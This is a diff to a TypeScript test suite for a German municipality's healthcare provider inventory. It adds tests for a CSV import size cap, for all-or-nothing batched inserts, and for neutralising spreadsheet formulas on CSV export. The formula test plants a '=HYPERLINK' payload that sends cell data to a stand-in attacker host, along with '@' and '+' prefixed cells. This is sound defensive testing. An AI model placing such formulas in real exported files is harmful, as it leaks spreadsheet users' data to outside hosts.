@@ -6,7 +6,7 @@ import { listProviders, replaceProvidersFromCsv, resolveProviderOwner } from "@/
 import { calculateSupply, supplyAnswersForAssessment, supplyParametersAt } from "@/lib/domain/supply";
 import { RULE_PARAMETERS } from "@/lib/knowledge/rule-parameters";
 import { seedKnowledge } from "@/prisma/seed/knowledge";
-import { serializeProvidersCsv } from "@/lib/csv/providers";
+import { MAX_CSV_PROVIDERS, serializeProvidersCsv } from "@/lib/csv/providers";
 import type { ProviderInput } from "@/lib/schemas/provider";
 import * as providersRoute from "@/app/api/v1/municipalities/[ags]/providers/route";
 import * as providerRoute from "@/app/api/v1/municipalities/[ags]/providers/[id]/route";
@@ -191,6 +191,92 @@ describe.each(testDatabaseKinds)("provider inventory on %s", (kind) => {
     const body = (await response.json()) as { error: { rows: Array<{ line: number }> } };
     expect(new Set(body.error.rows.map((r) => r.line))).toEqual(new Set([3, 4]));
     expect(JSON.stringify(await db.prisma.provider.findMany({ include: { doctors: true }, orderBy: { id: "asc" } }))).toBe(before);
+  });
+
+  const manyRows = (providers: number, doctorsEach: number) => {
+    const lines = [HEADER];
+    for (let p = 1; p <= providers; p++) {
+      for (let d = 1; d <= doctorsEach; d++) lines.push(`${p};Hausarztpraxis;Praxis ${p};Weg ${p};32694;Dörentrup;keine;Dr. ${p}-${d};1970;;zugelassen;voll;;`);
+    }
+    return lines.join("\n");
+  };
+  const snapshot = async () =>
+    JSON.stringify([
+      await db.prisma.provider.findMany({ include: { doctors: { orderBy: { id: "asc" } } }, orderBy: { id: "asc" } }),
+      await db.prisma.auditLog.count(),
+    ]);
+
+  it("refuses a file over the cap with a German message and changes nothing", async () => {
+    await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: practice("Bleibt") });
+    const before = await snapshot();
+    const csv = manyRows(MAX_CSV_PROVIDERS + 1, 1);
+    const response = await call(importRoute.POST, "POST", `${base}/import`, { ags: DOERENTRUP }, { cookie: editor.cookie, body: { csv, mode: "apply" } });
+    expect(response.status).toBe(400);
+    const body = (await response.json()) as { error: { message: string; rows: Array<{ line: number; message: string }> } };
+    expect(body.error.rows).toEqual([{ line: 1, message: expect.stringContaining("erlaubt sind höchstens 5.000 Einrichtungen je Gemeinde") }]);
+    expect(await snapshot()).toBe(before);
+  });
+
+  it("a large import writes a small audit entry (counts, not the inventory) and is still all or nothing", async () => {
+    const ctx = await ctxOf(editor.userId, "editor@providers.test");
+    const csv = manyRows(1_200, 3); // several insert batches of providers and of doctors
+    const outcome = await replaceProvidersFromCsv(ctx, DOERENTRUP, csv);
+    expect(outcome.ok).toBe(true);
+    const inventory = await listProviders(ctx, DOERENTRUP);
+    expect(inventory.providers).toHaveLength(1_200);
+    expect(inventory.providers.slice(0, 3).map((p) => p.name)).toEqual(["Praxis 1", "Praxis 2", "Praxis 3"]); // file order
+    expect(inventory.providers.at(-1)!.doctors.map((d) => d.name)).toEqual(["Dr. 1200-1", "Dr. 1200-2", "Dr. 1200-3"]);
+    const audit = await db.prisma.auditLog.findFirstOrThrow({ where: { action: "provider.import" }, orderBy: { createdAt: "desc" } });
+    expect(JSON.stringify([audit.before, audit.after]).length).toBeLessThan(1_000);
+    expect(audit.after).toMatchObject({ providers: 1_200, doctors: 3_600, summary: { added: 1_200, providersAfter: 1_200 } });
+
+    // A database failure in the middle of the batched inserts (the fourth insert statement: the second batch of
+    // doctors, after both provider batches) rolls back everything.
+    const before = await snapshot();
+    let batches = 0;
+    const failing = new Proxy(db.prisma, {
+      get(target, prop, receiver) {
+        if (prop !== "$transaction") return Reflect.get(target, prop, receiver);
+        return (fn: (tx: unknown) => Promise<unknown>, options?: { timeout?: number }) =>
+          target.$transaction(
+            (tx) =>
+              fn(
+                new Proxy(tx, {
+                  get(t, p, r) {
+                    if (p !== "$executeRawUnsafe") return Reflect.get(t, p, r);
+                    return (query: string, ...values: unknown[]) => {
+                      if (++batches === 4) throw new Error("simulierter Datenbankfehler");
+                      return t.$executeRawUnsafe(query, ...values);
+                    };
+                  },
+                }),
+              ),
+            options,
+          );
+      },
+    });
+    await expect(replaceProvidersFromCsv({ ...ctx, prisma: failing }, DOERENTRUP, manyRows(900, 2))).rejects.toThrow("simulierter Datenbankfehler");
+    expect(batches).toBe(4);
+    expect(await snapshot()).toBe(before);
+  });
+
+  it("a downloaded CSV carries no live formula, and importing it back gives the same data", async () => {
+    const hostile = practice('=HYPERLINK("https://angreifer.example/?d="&B2;"Details")', {
+      street: "+49 Weg 1",
+      doctors: [{ name: "@SUMME(A1:A9)", birthYear: 1960, employment: "licensed", licence: "full" }, { name: "'Apostroph", birthYear: 1980, employment: "employed", weeklyHours: 20 }],
+    });
+    expect((await call(providersRoute.POST, "POST", base, { ags: DOERENTRUP }, { cookie: editor.cookie, body: hostile })).status).toBe(201);
+    const strip = (list: Array<Record<string, unknown>>) => list.map(({ id: _id, version: _v, updatedAt: _u, ...rest }) => rest);
+    const ctx = await ctxOf(editor.userId, "editor@providers.test");
+    const before = strip((await listProviders(ctx, DOERENTRUP)).providers);
+    const download = await call(providersRoute.GET, "GET", `${base}?format=csv`, { ags: DOERENTRUP }, { cookie: editor.cookie });
+    const csv = await download.text();
+    const cells = csv.replace(/^\uFEFF/, "").split("\r\n").flatMap((line) => line.split(";")).map((cell) => cell.replace(/^"/, ""));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(cells.some((cell) => cell.startsWith("'=HYPERLINK"))).toBe(true);
+    const applied = await call(importRoute.POST, "POST", `${base}/import`, { ags: DOERENTRUP }, { cookie: editor.cookie, body: { csv, mode: "apply" } });
+    expect(applied.status).toBe(200);
+    expect(strip((await listProviders(ctx, DOERENTRUP)).providers)).toEqual(before);
   });
 
   it("reads a file as Excel writes it: BOM, semicolons, CRLF, umlauts and a quoted semicolon", async () => {
